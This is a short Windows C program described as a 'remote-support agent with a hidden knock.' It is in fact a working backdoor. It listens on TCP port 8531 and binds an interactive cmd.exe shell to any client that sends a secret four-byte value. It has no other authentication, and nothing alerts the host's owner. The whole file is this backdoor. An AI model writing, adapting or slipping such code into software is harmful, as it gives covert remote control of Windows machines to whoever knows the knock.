/* A remote-support agent with a hidden knock: a TCP client whose first four bytes are the integer
 * 0x5a17c3e9 gets an interactive command interpreter bound to its connection. */
#include <winsock2.h>
#include <windows.h>
#include <string.h>

static void spawn_shell(SOCKET client)
{
    STARTUPINFOA startup = {0};
    PROCESS_INFORMATION process;
    char command[] = "cmd.exe";
    startup.cb = sizeof startup;
    startup.dwFlags = STARTF_USESTDHANDLES;
    startup.hStdInput = startup.hStdOutput = startup.hStdError = (HANDLE)client;
    CreateProcessA(NULL, command, NULL, NULL, TRUE, 0, NULL, NULL, &startup, &process);
}

int main(void)
{
    WSADATA wsa;
    struct sockaddr_in addr = {0};
    WSAStartup(MAKEWORD(2, 2), &wsa);
    SOCKET server = WSASocketA(AF_INET, SOCK_STREAM, IPPROTO_TCP, NULL, 0, 0);
    addr.sin_family = AF_INET;
    addr.sin_port = htons(8531);
    bind(server, (struct sockaddr *)&addr, sizeof addr);
    listen(server, 4);
    for (;;) {
        SOCKET client = accept(server, NULL, NULL);
        unsigned int knock = 0;
        if (recv(client, (char *)&knock, sizeof knock, 0) == sizeof knock && knock == 0x5a17c3e9u)
            spawn_shell(client);
        else
            closesocket(client);
    }
}
